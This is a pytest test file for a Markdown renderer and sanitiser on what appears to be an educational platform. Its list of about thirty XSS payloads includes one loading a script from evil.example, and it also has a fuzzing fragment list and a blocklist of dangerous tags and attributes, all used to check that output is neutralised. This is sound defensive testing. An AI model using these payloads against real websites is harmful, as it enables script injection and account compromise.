"""Rendering and sanitising: XSS payloads, a property test on generated Markdown, internal links."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edu.content.markdown import _md, _plain_paragraph, render, sanitize

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( javascript:alert(1))",
    "![img](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<a href=x onmouseover=alert(1)>x</a>",
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<details open ontoggle=alert(1)>",
    '[x](lesson:" onclick="alert(1))',
    '[x](page:foo"><script>alert(1)</script>)',
    "<form action=javascript:alert(1)><input type=submit>",
    "<object data=javascript:alert(1)>",
    "<base href=javascript:/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((name, value or "") for name, value in attrs)


def assert_safe(html: str) -> None:
    assert "<script" not in html.lower()
    parser = _Tags()
    parser.feed(html)
    assert not {
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "style",
        "base",
        "meta",
        "svg",
        "math",
    } & set(parser.tags)
    for name, value in parser.attrs:
        assert not name.lower().startswith("on"), (name, html)
        assert name.lower() != "style" or value.replace(" ", "").lower().startswith("text-align:"), html
        compact = "".join(value.split()).lower()
        assert not compact.startswith(("javascript:", "vbscript:", "data:")), (name, value, html)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_are_neutralised(payload: str) -> None:
    assert_safe(render(payload).html)
    assert_safe(render(f"Some *text* then {payload} and [a link](https://example.com).\n\n{payload}").html)


def test_sanitize_alone_strips_raw_html_attacks() -> None:
    for payload in XSS_PAYLOADS:
        assert_safe(sanitize(payload))


_fragments = st.sampled_from(
    [
        "*",
        "_",
        "**",
        "`",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        '"',
        "'",
        "#",
        "-",
        "!",
        "\n",
        "\n\n",
        " ",
        "|",
        "javascript:",
        "JavaScript:",
        "on",
        "onerror=",
        'onclick="x"',
        "<script>",
        "</script>",
        "<img src=x ",
        "data:",
        "vbscript:",
        "&#106;",
        "&#x6A;",
        "%6A",
        "lesson:",
        "page:",
        "https://e.example",
        "<a href=",
        "alert(1)",
        "text",
        "한국어",
        "{#id}",
        ":::",
        "|---|",
        "\t",
        "\\",
        "=",
        "&",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(_fragments, max_size=40).map("".join))
def test_generated_markdown_never_yields_script_handlers_or_javascript_urls(source: str) -> None:
    html = render(source).html
    assert_safe(html)
    assert "<script" not in html


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("abc XYZ.,;:?'\"()%$@0123456789\n-+=#/한글")), max_size=60))
def test_plain_fast_path_matches_markdown_it(source: str) -> None:
    fast = _plain_paragraph(source)
    if fast is not None:
        assert fast == sanitize(_md.render(source)).strip()


def test_internal_links_are_rewritten_and_recorded_with_lines() -> None:
    rendered = render(
        "Intro\n\nSee [a](lesson:consent-basics) and\n[b](lesson:consent-basics#photos),\n"
        "[c](page:class-agreement).",
        first_line=10,
    )
    assert '<a href="/learn/lesson/consent-basics">a</a>' in rendered.html
    assert '<a href="/learn/lesson/consent-basics#photos">b</a>' in rendered.html
    assert '<a href="/page/class-agreement">c</a>' in rendered.html
    assert [(link.kind, link.target, link.anchor, link.line) for link in rendered.links] == [
        ("lesson", "consent-basics", None, 12),
        ("lesson", "consent-basics", "photos", 13),
        ("page", "class-agreement", None, 14),
    ]


def test_external_links_get_rel_and_tables_render() -> None:
    html = render(
        "[BBC](https://www.bbc.com/news) [mail](mailto:a@example.org)\n\n| a | b |\n|:--|--:|\n| 1 | 2 |"
    ).html
    assert '<a href="https://www.bbc.com/news" rel="noopener noreferrer">BBC</a>' in html
    assert '<a href="mailto:a@example.org">mail</a>' in html
    assert '<th style="text-align:left">a</th>' in html and "<td" in html


def test_raw_html_is_shown_as_text_not_markup() -> None:
    assert render("a <b>bold</b> word").html == "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>"


def test_korean_words_in_other_languages_are_marked_for_screen_readers():
    from edu.content.markdown import mark_korean

    html = render("The centre (**디지털성범죄피해자지원센터**) helps. See [허위 영상물](https://example.kr).").html
    marked = mark_korean(html)
    assert '<strong><span lang="ko">디지털성범죄피해자지원센터</span></strong>' in marked
    assert '<span lang="ko">허위 영상물</span></a>' in marked
    assert 'href="https://example.kr"' in marked
    assert mark_korean('<a title="한국어" href="/x">English only</a>') == '<a title="한국어" href="/x">English only</a>'


def test_english_lessons_mark_their_korean_words_and_korean_lessons_do_not():
    from datetime import date

    from edu.content import load_catalog
    from tests.content.test_real_curriculum import CONTENT

    catalog = load_catalog(CONTENT, today=date.today())
    english = catalog.lessons_for("law", "en", region="KR")
    html = " ".join(seg.html for lesson in english for step in lesson.steps for seg in step.segments
                    if getattr(seg, "html", None))
    assert '<span lang="ko">허위영상물</span>' in html
    korean = catalog.lessons_for("law", "ko", region="KR")
    assert 'lang="ko"' not in " ".join(seg.html for lesson in korean for step in lesson.steps
                                       for seg in step.segments if getattr(seg, "html", None))
